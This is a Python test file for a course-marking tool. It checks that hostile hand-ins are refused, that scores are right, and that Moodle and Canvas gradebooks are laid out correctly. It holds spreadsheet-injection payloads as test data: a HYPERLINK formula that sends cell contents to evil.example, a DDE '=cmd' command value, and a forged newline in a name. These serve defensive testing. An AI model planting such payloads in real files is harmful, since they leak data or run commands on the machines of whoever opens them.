"""`course marks`: hostile hand-ins refused with their reason, valid ones beside them still
marked, scores equal to Python's checking, text from hand-ins inert in every spreadsheet,
and gradebooks in the column layouts of Moodle's and Canvas's grade import."""
from __future__ import annotations

import csv
import json
import random
import shutil
from datetime import datetime, UTC
from pathlib import Path

import pytest
import yaml

from exercises import handin
from exercises.checking import check
from exercises.dev.marks_benchmark import hand_in, sample_answer
from exercises.kit import marks
from exercises.kit.output import OutputError

HOSTILE = Path(__file__).resolve().parents[1] / "hostile" / "handin"
EXPECTED = yaml.safe_load((HOSTILE / "expected.yml").read_text(encoding="utf-8"))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")'
DEADLINE = datetime(2026, 12, 20, 23, 59, tzinfo=UTC)


def _csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _answers(bank: str, seed: int) -> dict:
    rng = random.Random(seed)
    return {e.ref: sample_answer(e.spec, rng, text=FORMULA) for e in handin.exercises().values() if e.bank == bank}


@pytest.fixture(scope="module")
def marked(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("marks")
    folder = tmp / "submissions"
    shutil.copytree(HOSTILE / "files", folder)
    every = handin.exercises()
    # valid hand-ins, as a Moodle "download all submissions" lays them out
    a = _answers("foundations", 1) | _answers("responsibility-to-protect", 2)
    b = _answers("foundations", 3)
    for sub, data in {
        "Aiko Sato_101_assignsubmission_file_/answers-course.json": hand_in({"name": "Aiko Sato", "id": "s101"}, a,
                                                                           saved="2026-12-10T09:00:00Z"),
        "Aiko Sato_101_assignsubmission_file_/answers-old.json": hand_in({"name": "Aiko Sato", "id": "s101"},
                                                                        _answers("foundations", 9),
                                                                        saved="2026-12-01T09:00:00Z"),
        "Ben=cmd_102_assignsubmission_file_/answers.json": hand_in({"name": "=cmd|' /C calc'!A0", "id": "s102"}, b),
        "no-number.json": hand_in({"name": "Eve\n  forged.json: all good"}, {"how-to-use/genocide-convention-year": 0}),
    }.items():
        (folder / sub).parent.mkdir(exist_ok=True)
        (folder / sub).write_text(json.dumps(data), encoding="utf-8")
    # hostile cases made here: too large, a link, late and incomplete answers
    (folder / "too-large.json").write_bytes(b" " * (handin.max_bytes() + 1))
    (folder / "link.json").symlink_to(folder / "Ben=cmd_102_assignsubmission_file_" / "answers.json")
    ref = "foundations/convention-intent"
    late = hand_in({"id": "s103"}, {ref: 0}, saved="2026-12-22T10:00:00Z")
    (folder / "late.json").write_text(json.dumps(late), encoding="utf-8")
    incomplete = hand_in({"id": "s104"}, {"foundations/protected-groups": []})
    (folder / "incomplete.json").write_text(json.dumps(incomplete), encoding="utf-8")
    summary = marks.mark(folder, tmp / "out", deadline=DEADLINE)
    return {"summary": summary, "out": tmp / "out", "a": a, "b": b, "every": every, "folder": folder}


def test_there_are_at_least_25_hostile_hand_in_fixtures():
    assert len(EXPECTED["refused"]) + len(EXPECTED["answers"]) >= 25
    assert sorted(p.name for p in (HOSTILE / "files").iterdir()) == sorted({**EXPECTED["refused"], **EXPECTED["answers"]})


def test_every_hostile_file_is_refused_with_its_reason(marked):
    refused = dict(marked["summary"].refused)
    for name, words in EXPECTED["refused"].items():
        assert name in refused, f"{name} was not refused"
        assert words in refused[name], f"{name}: {refused[name]!r} does not say {words!r}"
    assert "the limit is 2,000,000" in refused["too-large.json"]
    assert "symbolic link" in refused["link.json"]


def test_answers_that_cannot_count_are_listed_by_file(marked):
    problems = marked["summary"].problems
    for name, words in EXPECTED["answers"].items():
        assert any(f == name and words in p for f, p in problems), f"{name}: no problem saying {words!r}"
    assert any(f == "late.json" and "after the deadline" in p for f, p in problems)
    assert any(f == "incomplete.json" and "not complete" in p for f, p in problems)


def test_an_earlier_hand_in_by_the_same_learner_is_listed_and_the_latest_counts(marked):
    duplicates = dict(marked["summary"].duplicates)
    assert list(duplicates) == ["Aiko Sato_101_assignsubmission_file_/answers-old.json"]
    assert "Aiko Sato_101_assignsubmission_file_/answers-course.json counts" in next(iter(duplicates.values()))


def test_valid_hand_ins_are_marked_and_their_points_are_pythons_checking(marked):
    out, every = marked["out"], marked["every"]
    rows = _csv(out / "gradebook-moodle.csv")
    head, body = rows[0], {r[0]: r for r in rows[1:]}
    assert head[:2] == marks.GRADEBOOKS["moodle"]
    assert {"s101", "s102"} <= set(body)

    def points(answers, bank):
        total = 0.0
        for ref, answer in answers.items():
            e = every[ref]
            if e.bank == bank and e.spec["type"] != "reflection":
                total += check(e.spec, handin.source_answer(e.spec, ref, answer))["score"]
        return total

    for learner, answers in (("s101", marked["a"]), ("s102", marked["b"])):
        for bank in ("foundations", "responsibility-to-protect"):
            title = next(e.bank_title for e in every.values() if e.bank == bank)
            column = next(i for i, h in enumerate(head) if h.startswith(f"{title} (auto-marked"))
            assert float(body[learner][column]) == pytest.approx(round(points(answers, bank), 2)), (learner, bank)


def test_gradebooks_follow_the_platforms_column_layouts(marked):
    moodle = _csv(marked["out"] / "gradebook-moodle.csv")
    canvas = _csv(marked["out"] / "gradebook-canvas.csv")
    assert moodle[0][:2] == ["ID number", "Name"]
    assert canvas[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert canvas[1][0] == "Points Possible" and all(v.isdigit() for v in canvas[1][5:])
    assert moodle[0][2:] == canvas[0][5:] and all("(auto-marked, out of " in h for h in moodle[0][2:])
    assert all(len(row) == len(moodle[0]) for row in moodle) and all(len(row) == len(canvas[0]) for row in canvas)
    assert {row[2] for row in canvas[2:]} >= {"s101", "s102"}


def canvas_gradebook_import(rows: list[list[str]]) -> dict:
    """The rules by which Canvas's own importer reads a gradebook CSV (Instructure's
    canvas-lms, app/models/gradebook_importer.rb: parse!, header?, update_column_count,
    strip_non_assignment_columns, process_pp, process_student), mirrored here: a header
    whose first cells are Student and ID, then SIS User ID and SIS Login ID (five student
    columns) ending in Section; score columns at the end dropped; a row whose first cell
    matches "Points Possible" sets each assignment's points; every other row is a student,
    found by ID, else by SIS User ID, else by name."""
    import re
    header, *body = rows
    assert len(header) > 3 and re.search("Student", header[0]) and re.search("ID", header[1]), "Couldn't find header row"
    columns = 3
    if re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3]):
        columns += 2
    assert re.search("Section", header[columns - 1]), "Couldn't find header row"
    assignments = header[columns:]
    while assignments and re.search("Current Score|Current Points|Final Score|Final Points|Final Grade", assignments[-1]):
        assignments.pop()
    points, students = {}, []
    for row in body:
        if re.search("Points Possible", row[0]):
            points = {a: row[columns + i] for i, a in enumerate(assignments) if row[columns + i]}
            continue
        if all(c.strip().lower() in ("muted", "") for c in row):
            continue
        who = {"id": row[1] or None, "sis_user_id": row[2] if columns == 5 else None, "name": row[0]}
        students.append((who, {a: row[columns + i] for i, a in enumerate(assignments)}))
    return {"assignments": assignments, "points": points, "students": students}


def test_canvas_reads_the_gradebook_as_its_importer_does(marked):
    canvas = canvas_gradebook_import(_csv(marked["out"] / "gradebook-canvas.csv"))
    moodle = _csv(marked["out"] / "gradebook-moodle.csv")
    assert canvas["assignments"] == moodle[0][2:]  # one assignment per module, none dropped
    assert set(canvas["points"]) == set(canvas["assignments"])
    for title, n in canvas["points"].items():
        assert title.endswith(f"(auto-marked, out of {n})")
    by_number = {who["sis_user_id"]: scores for who, scores in canvas["students"]}
    assert {"s101", "s102"} <= set(by_number)
    assert all(who["id"] is None for who, _ in canvas["students"])  # no Canvas user id: matched by SIS User ID
    moodle_rows = {row[0]: row[2:] for row in moodle[1:]}
    for number in ("s101", "s102"):
        assert [by_number[number][a] for a in canvas["assignments"]] == moodle_rows[number]


def test_text_from_hand_ins_never_runs_as_a_formula(marked):
    out = marked["out"]
    for name in ("marking-sheet.csv", "scores.csv", "gradebook-moodle.csv", "gradebook-canvas.csv"):
        for row in _csv(out / name):
            for value in row:
                assert not value.startswith(("=", "+", "-", "@")), f"{name}: {value!r}"
    sheet = _csv(out / "marking-sheet.csv")
    assert any(v.startswith("'=HYPERLINK") for row in sheet for v in row)
    assert any(v == "'=cmd|' /C calc'!A0" for row in sheet for v in row)
    from openpyxl import load_workbook
    book = load_workbook(out / "marking-sheet.xlsx")
    cells = [c for row in book["Reflections"].iter_rows() for c in row]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
    assert all(c.data_type != "f" for c in cells)


def test_the_marking_sheet_has_every_reflection_with_its_rubric(marked):
    every = marked["every"]
    sheet = _csv(marked["out"] / "marking-sheet.csv")
    head = sheet[0]
    rows = [dict(zip(head, r, strict=True)) for r in sheet[1:]]
    expected = {(learner, ref) for learner, answers in (("s101", marked["a"]), ("s102", marked["b"]))
                for ref in answers if every[ref].spec["type"] == "reflection"}
    assert {(r["Student number"], r["Exercise"]) for r in rows} == expected
    for r in rows:
        rubric = every[r["Exercise"]].spec.get("rubric")
        if rubric:
            assert rubric[0]["criterion"] in r["Rubric"]


def test_the_report_lists_every_refused_file(marked):
    report = (marked["out"] / "report.txt").read_text(encoding="utf-8")
    for name in EXPECTED["refused"]:
        assert f"  {name}: " in report
    assert "  no-number.json: no student number in the file: match the learner by name (Eve forged.json: all good)" \
        in report and "\n  forged.json" not in report


def test_marks_refuses_a_folder_it_did_not_write_and_an_output_inside_the_submissions(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "notes.txt").write_text("keep me", encoding="utf-8")
    with pytest.raises(OutputError):
        marks.mark(tmp_path / "sub", tmp_path / "mine")
    assert (tmp_path / "mine" / "notes.txt").read_text(encoding="utf-8") == "keep me"
    with pytest.raises(marks.MarksError):
        marks.mark(tmp_path / "sub", tmp_path / "sub" / "marks")
    with pytest.raises(marks.MarksError):
        marks.mark(tmp_path / "missing", tmp_path / "out")


def test_the_fingerprint_changes_when_the_question_changes_and_hides_graded_answers():
    every = handin.exercises()
    e = every["foundations/convention-intent"]
    changed = {**e.spec, "prompt": e.spec["prompt"] + " (edited)"}
    assert handin.fingerprint(changed, e.ref) != e.version
    graded = next(x for x in every.values() if x.spec.get("graded") and x.spec["type"] == "single_choice")
    moved = dict(graded.spec, options=[{**o, "correct": not o.get("correct")} for o in graded.spec["options"]])
    assert handin.fingerprint(moved, graded.ref) == graded.version  # the hash says nothing of the key


def test_the_command_line_marks_a_folder(tmp_path, capsys):
    from exercises.__main__ import main
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "a.json").write_text(json.dumps(hand_in({"id": "s1"}, _answers("how-to-use", 1))),
                                             encoding="utf-8")
    assert main(["marks", str(tmp_path / "sub"), "--out", str(tmp_path / "out")]) == 0
    assert "marked 1 hand-ins" in capsys.readouterr().out
    assert main(["marks", str(tmp_path / "sub"), "--out", str(tmp_path / "out"), "--deadline", "soon"]) == 1
    assert "not a date and time" in capsys.readouterr().err
